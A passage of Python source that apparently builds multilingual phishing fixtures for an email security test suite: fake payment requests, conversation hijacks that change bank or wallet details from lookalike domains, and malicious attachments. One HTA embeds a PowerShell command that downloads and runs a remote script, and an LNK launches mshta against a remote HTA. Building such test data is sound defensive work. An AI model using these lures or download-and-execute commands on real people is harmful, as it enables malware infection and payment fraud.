Service conformité Ledger""", "2026-11-17 09:40 +0100"),
    L("wallet-request", "ar", "fake infra vendor asks treasury to send 15 ETH to a 'gas relayer' before an upgrade",
      ("فريق البنية التحتية | Nodeforge", "infra@nodeforge-relay.com"), (HADDAD,), "شحن رصيد الغاز قبل الترقية",
      """السيد عمر،

قبل ترقية نظام السحب لديكم الليلة، يجب شحن محفظة المرحِّل (relayer) بمبلغ 15 ETH لتغطية رسوم الغاز.
العنوان: 0xA41b2C3d4E5f6a7B8c9D0e1F2a3B4c5D6e7F8091

لم يُضف هذا العنوان إلى القائمة البيضاء بعد، لذا يرجى الإرسال يدوياً من المحفظة الساخنة.

فريق Nodeforge""", "2026-11-16 21:00 +0400"),

    # -- attachment --------------------------------------------------------------------------------
    L("attachment", "en", "zipped .url internet shortcut that opens a .pdf.lnk over WebDAV (file://...@SSL)",
      ("Amberfield Settlements", "settlements@amberfie1d-markets.com"), (TANAKA,), "Remittance advice 08 Nov",
      """Hi,

Please find attached the remittance advice for today's settlement. Open the shortcut inside the zip
to view the PDF from our secure document server.

Regards,
Amberfield Settlements""", "2026-11-08 07:45 +0000",
      attachments=(Att("Remittance_Advice_1108.zip", b.zip_archive(
          [("Remittance_Advice_1108.url", URL_SHORTCUT.encode())]), ZIP),)),
    L("attachment", "ja", "zipped .msc console (GrimResource style) posing as audit material",
      ("宮島証券 監査対応チーム", "audit@miyajima-sec.com"), (KEIRI,), "監査資料のご送付（2026年度第3四半期）",
      """経理部 御中

監査対応資料を送付いたします。ZIP内のファイルをダブルクリックすると、管理コンソールで資料が表示されます。

ご確認のほどよろしくお願いいたします。""", "2026-11-10 15:10 +0900",
      attachments=(Att("監査資料_2026Q3.zip", b.zip_archive([("監査資料_2026Q3.msc", MSC_CONSOLE.encode("utf-8"))]),
                       ZIP),)),
    L("attachment", "ko", "'contract review' delivered as a .pdf.cpl (Control Panel DLL) with a double extension",
      ("법무법인 해온 김태윤", "ty.kim@haeon-law.kr"), (PARK,), "계약서 검토본 송부",
      """박대현 님,

요청하신 제휴 계약서 검토본을 첨부합니다. 첨부 파일을 열어 수정 사항을 확인해 주세요.

김태윤 변호사 드림""", "2026-11-11 18:20 +0900",
      attachments=(Att("계약서_검토본.pdf.cpl", b.pe_stub("cpl:haeon-contract"), "application/octet-stream"),)),
    L("attachment", "zh", "statement delivered as an HTA in a zip that runs PowerShell",
      ("鼎盛数字资产 结算部", "settlement@dingsheng-da.com"), (LI,), "11月对账单（请查收）",
      """李伟你好，

11月上半月对账单已生成，请解压后打开查看（需要用Windows打开）。

结算部""", "2026-11-15 10:40 +0800",
      attachments=(Att("对账单_202611.zip", b.zip_archive([("对账单_202611.hta", b.hta(
          "powershell -w hidden -ep bypass -c iex(iwr https://dingsheng-da.com/s/r.ps1 -UseBasicParsing)",
          "对账单"))]), ZIP),)),
    L("attachment", "fr", "password zip (password in the body) holding a .pdf.jse JScript downloader",
      ("Cabinet Arnaud Expertise", "contact@arnaud-expertise.fr"), (LAURENT,), "Rapport d'expertise comptable - confidentiel",
      """Bonjour,

Veuillez trouver ci-joint notre rapport. Pour des raisons de confidentialité, l'archive est protégée.

Mot de passe : AE-2026!

Cordialement,
Cabinet Arnaud Expertise""", "2026-11-13 11:05 +0100",
      attachments=(Att("Rapport_expertise.zip", b.zip_archive(
          [("Rapport_expertise.pdf.jse", ad.jscript("https://arnaud-expertise.fr/r/p.js"))], password="AE-2026!"), ZIP),)),
    L("attachment", "ar", "IMG disk image holding an exe named like a PDF and a side-loaded DLL",
      ("مكتب المحاماة - الشامسي", "office@alshamsi-legal.com"), (HADDAD,), "مسودة اتفاقية الشراكة",
      """السيد عمر،

نرفق مسودة اتفاقية الشراكة للمراجعة. افتح الملف المرفق ثم انقر نقراً مزدوجاً على المستند.

مكتب الشامسي للمحاماة""", "2026-11-14 13:15 +0400",
      attachments=(Att("Partnership_Agreement.img", b.iso_image([
          ("Partnership_Agreement.pdf.exe", b.pe_stub("img:alshamsi-loader")),
          ("version.dll", b.pe_stub("img:alshamsi-dll"))], volume="AGREEMENT"), "application/octet-stream"),)),
    L("attachment", "en", "investor's 'board deck' is a macOS .terminal file that pipes a script into bash",
      ("Oliver Grant | Harborlight Capital", "oliver@harborlight-cap.com"), (CEO,), "Board deck for Thursday",
      """Haruto,

Attached is the deck we'll go through on Thursday. It's in our secure viewer format; just double-click
it on your Mac and it will open.

Oliver""", "2026-11-09 02:10 +0000",
      attachments=(Att("Board_Deck.terminal", TERMINAL_FILE.encode(), "application/octet-stream"),)),
    L("attachment", "en", "partner 'onboarding questionnaire' .docm whose Document_Open runs PowerShell",
      ("Amberfield Onboarding", "onboarding@amberfie1d-markets.com"), (TANAKA,), "Annual KYC refresh - questionnaire",
      """Hi Mika,

As part of our annual counterparty review, please complete the attached questionnaire. The form uses
macros to validate fields; click "Enable Content" when Word asks.

Thanks,
Amberfield Onboarding""", "2026-11-11 08:30 +0000",
      attachments=(Att("Amberfield_KYC_Questionnaire_2026.docm", b.word_document(
          ["Counterparty KYC refresh 2026", "Enable content to load the form fields."],
          macro_modules=[("ThisDocument", MACRO_ONBOARD, True)]),
          "application/vnd.ms-word.document.macroEnabled.12"),)),

    # -- conversation-hijack -----------------------------------------------------------------------
    L("conversation-hijack", "en", "reply in the partner's real thread from amberfie1d-markets.com (l->1) with a new USDC address",
      ("Nathan Price", "n.price@amberfie1d-markets.com"), (TANAKA,), "RE: Weekly settlement - w/c 2 Nov",
      """Hi Mika,

Small change for this week: our auditors asked us to receive settlements on a segregated wallet from
now on. Please send Friday's amount and all future settlements to:

0x5dE2a8b1C4f97630aB1d2E3F4c5B6a7D8e9F0c21

The old address stays active for outgoing only. No need to call, this is already signed off on our
side; I'll send the formal letter next week.

Nathan""", "2026-11-05 16:20 +0000", in_reply_to=MID_AMBERFIELD, references=MID_AMBERFIELD),
    L("conversation-hijack", "ja", "reply in the broker's thread from miyajima-sec.com (.co.jp -> .com) with a password zip holding an LNK",
      ("宮島証券 決済部 小野寺 亮", "onodera@miyajima-sec.com"), (TANAKA_JA,), "RE: 11月分 受渡スケジュールのご確認",
      """田中様

お世話になっております。小野寺です。
受渡スケジュールに一部修正がございましたので、修正版をお送りします。

パスワード：mys1110

お手数ですがご確認ください。""", "2026-11-10 17:30 +0900", in_reply_to=MID_MIYAJIMA, references=MID_MIYAJIMA,
      attachments=(Att("受渡スケジュール_修正版.zip", b.zip_archive([("受渡スケジュール_修正版.pdf.lnk", b.lnk(
          "C:\\Windows\\System32\\mshta.exe", "https://miyajima-sec.com/v/sch.hta",
          "C:\\Windows\\System32\\imageres.dll,-102"))], password="mys1110"), ZIP),)),
    L("conversation-hijack", "fr", "TR: forward from banque-lorvanne.fr (doubled n), no In-Reply-To, asks to pay fees to a new IBAN",
      ("Hélène Marchetti", "h.marchetti@banque-lorvanne.fr"), (LAURENT,), "TR: Frais de conservation T4",
      """Bonjour Camille,

Petite correction : suite à la migration de notre système, le prélèvement automatique ne pourra pas
avoir lieu ce trimestre. Merci de régler les frais (3 850 EUR) par virement sur notre compte de
transit ci-dessous, avant le 18 novembre :

IBAN : LT62 3250 0419 8822 7301
BIC : REVOLT21

Bien à vous,
Hélène Marchetti

-----Message d'origine-----
De : Hélène Marchetti
Objet : Frais de conservation T4
Les frais de conservation du T4 (3 850 EUR) seront prélevés le 20 novembre...""", "2026-11-12 09:50 +0100"),
    L("conversation-hijack", "ko", "reply in the asset manager's thread from cheongsol-arn.co.kr (m->rn) changing the KRW account",
      ("윤서진", "sj.yoon@cheongsol-arn.co.kr"), (PARK,), "RE: 11월 환매 일정 안내",
      """박대현 님,

정정 안내드립니다. 내부 감사 일정으로 기존 계좌가 일시 동결되어, 이번 환매는 아래 계좌로 받겠습니다.

은행: 케이뱅크
계좌: 100-218-447390
예금주: 청솔에셋(주)

번거로우시겠지만 전화 확인은 감사 기간이라 어렵습니다. 메일로 회신 부탁드립니다.

윤서진 드림""", "2026-11-12 14:15 +0900", in_reply_to=MID_CHEONGSOL, references=MID_CHEONGSOL),
    L("conversation-hijack", "zh", "回复 from dingsheng-da.com (.com.hk -> .com), no In-Reply-To, asks to release coins before HKD arrives",
      ("周嘉怡", "jiayi.zhou@dingsheng-da.com"), (LI,), "回复: 大宗交易确认 DS-1108",
      """李伟，

我们的港币今天因为银行系统维护会晚一点到，水单已经附上了。客户那边很急，
麻烦先把 USDT 放到下面这个地址，钱到了就对上了：

TRC20: TLm3Yx8QvZ2pN6wRk4cTf9jHs1uGd7eBo5

谢谢！
周嘉怡""", "2026-11-08 14:40 +0800"),
    L("conversation-hijack", "ar", "reply in the brokerage's thread from sadaf-brokarage.ae (vowel swap) with new bank details",
      ("خالد المنصوري", "k.almansoori@sadaf-brokarage.ae"), (HADDAD,), "RE: كشف الحساب الشهري - أكتوبر",
      """الأستاذ عمر،

للتنويه: قمنا بتغيير البنك الذي نتعامل معه بسبب مراجعة داخلية. يرجى تحويل أي مستحقات من الآن فصاعداً
إلى الحساب الجديد:

IBAN: AE41 0860 0000 0945 1187 302
البنك: Wio Bank

نرجو عدم الاتصال بالمكتب حالياً لأن الخطوط قيد الصيانة، والرد عبر البريد فقط.

خالد""", "2026-11-13 15:25 +0400", in_reply_to=MID_SADAF, references=MID_SADAF),
]
